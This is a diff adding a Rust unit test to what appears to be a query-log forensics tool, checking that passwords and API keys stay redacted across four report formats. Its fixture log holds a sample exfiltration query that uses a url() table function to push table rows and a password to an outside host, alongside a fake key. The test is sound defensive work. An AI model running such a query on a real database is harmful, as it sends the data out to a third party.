@@ -73,3 +73,43 @@ pub fn render_timesketch(
     }
     Ok(())
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::report::{
+        render_csv, render_html, render_ledger_text, render_timesketch, HtmlOptions,
+    };
+    use crate::{analyze, Config, Severity};
+
+    /// Every new output quotes evidence; none may carry the secret.
+    #[test]
+    fn ok_secrets_stay_redacted_in_every_new_format() {
+        let log = "type\tevent_time\tuser\taddress\tquery\tresult_bytes\twritten_bytes\n\
+                   QueryFinish\t2025-01-29 10:11:12\tdefault\t198.51.100.7\tINSERT INTO FUNCTION url('http://203.0.113.9/x?password=hunter2', 'TSV', 'a String') SELECT * FROM t\t0\t4096\n\
+                   QueryFinish\t2025-01-29 10:11:13\tdefault\t198.51.100.7\tSELECT 'sk-FAKE0123456789abcdefXYZ' AS k, * FROM t\t5000000\t0\n";
+        let a = analyze(Config::default(), &[("q.tsv", log.as_bytes())]).unwrap();
+        assert!(a.findings.len() >= 2);
+        let mut outputs = Vec::new();
+        for i in 0..4 {
+            let mut out = Vec::new();
+            match i {
+                0 => render_csv(&a, Severity::Info, &mut out),
+                1 => render_timesketch(&a, Severity::Info, &mut out),
+                2 => render_html(&a, &HtmlOptions::default(), &mut out),
+                _ => render_ledger_text(&a, &mut out),
+            }
+            .unwrap();
+            outputs.push(String::from_utf8(out).unwrap());
+        }
+        for o in &outputs {
+            assert!(!o.contains("hunter2") && !o.contains("sk-FAKE0123"), "{o}");
+        }
+        assert!(outputs[0].contains("[REDACTED]"));
+        assert!(outputs[3].contains("url → 203.0.113.9"), "{}", outputs[3]);
+        for line in outputs[1].lines() {
+            let v: serde_json::Value = serde_json::from_str(line).unwrap();
+            assert_eq!(v["timestamp_desc"], "First Seen");
+            assert!(v["message"].as_str().unwrap().starts_with('['));
+        }
+    }
+}
